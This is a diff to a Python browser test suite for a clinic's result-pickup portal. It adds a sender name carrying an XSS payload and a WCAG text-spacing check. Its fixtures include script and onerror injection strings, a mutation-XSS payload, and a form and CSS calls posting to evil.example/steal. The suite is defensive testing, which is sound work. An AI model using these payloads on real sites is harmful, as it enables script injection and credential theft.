@@ -2,6 +2,7 @@
 # SPDX-License-Identifier: Apache-2.0
 """The portal as people see it: Chromium, through nginx, of messages that came through Postfix. Screenshots: build-tests/browser/shots."""
 import base64
+import email.headerregistry
 import email.message
 import email.policy
 import os
@@ -28,6 +29,7 @@ HOST = "pickup.clinic.test"
 URL = "https://" + HOST
 PDF = b"%PDF-1.4\n% a report of 300 KB\n" + bytes(range(256)) * 1200
 HOSTILE = '"><img src=x onerror=alert(1)>.txt'
+FROM = email.headerregistry.Address("Laboratory <img src=x onerror=alert('from')>", "results", "clinic.test")
 SUBJECT = "Your blood test <script>alert('subject')</script>"
 TEXT = "Dear Mrs. Jones,\n\nyour blood test of last week is back. MRN 44721. Diagnosis: diabetes, HbA1c 7.9 %.\n"
 HTML = """<html><head><style>p { color: #222 } @import url(https://evil.example/x.css); body { background: url(https://evil.example/bg.png) }</style>
@@ -40,6 +42,12 @@ HTML = """<html><head><style>p { color: #222 } @import url(https://evil.example/
 <form action="https://evil.example/steal" method="post"><input name="code"><button>Send</button></form>
 <math><mtext><style><img src=x onerror="alert('mutation')"></style></mtext></math>
 <p>Keep taking your metformin as before, and write your readings into the diary.</p><p>With kind regards,<br>Nurse Okafor</p></body></html>"""
+# WCAG 1.4.12: what then is wider or higher than what holds it, and hidden there.
+SPACED = """(() => { for (const e of document.querySelectorAll('body, body *'))
+	for (const [name, value] of [['line-height', '1.5'], ['letter-spacing', '0.12em'], ['word-spacing', '0.16em'], ...(e.matches('p') ? [['margin-bottom', '2em']] : [])])
+		e.style.setProperty(name, value, 'important');
+	return [...document.querySelectorAll('body *')].filter(e => !e.closest('.hidden, .skip') && getComputedStyle(e).overflow !== 'visible' &&
+		(e.scrollWidth > e.clientWidth + 1 || e.scrollHeight > e.clientHeight + 1) && !e.matches('textarea, iframe')).map(e => e.outerHTML.slice(0, 120)); })()"""
 # Without anything of that, for those who look at the pictures.
 CALM = """<p>Estimada señora Ortega:</p><p>Ya tenemos el resultado de su análisis de sangre: HbA1c 7.9 %.</p><p><img src="cid:chart" alt="A chart of your values" width="160"></p>
 <p>Siga tomando la metformina como hasta ahora y anote sus valores en el diario. Llámenos para pedir una cita.</p><p>Un cordial saludo,<br>Enfermera Okafor</p>"""
@@ -82,7 +90,7 @@ class World:
         """A message with everything; the path of the link that the recipient gets."""
         before = len(self.portal.mails(rcpt))
         mail = email.message.EmailMessage(policy=email.policy.SMTP)
-        mail["From"], mail["To"], mail["Subject"], mail["Date"] = "Laboratory <results@clinic.test>", rcpt, subject, "Sun, 22 Nov 2026 10:41:00 +0000"
+        mail["From"], mail["To"], mail["Subject"], mail["Date"] = FROM, rcpt, subject, "Sun, 22 Nov 2026 10:41:00 +0000"
         mail["Message-ID"] = "<%f@clinic.test>" % time.time()
         mail.set_content(TEXT)
         if html:
@@ -394,6 +402,9 @@ def careful(world):
     page.fill("#passphrase", "blue heron at noon")
     page.follow("button.main")
     world.look(page, "en-small-message", SUBJECT)
+    tap.ok("Laboratory <img src=x onerror=alert('from')>" in page.text(), "a name that is markup is a name", page.text())
+    tap.equal(page.evaluate(SPACED), [], "with letters, words and lines as far apart as a reader may set them, nothing is cut off")
+    tap.equal(page.layout()["beside"], 0, "nor beside the screen")
     page.follow(".actions a[href$='/reply']")
     with open("large.bin", "wb") as out:
         out.write(bytes(3 << 20))
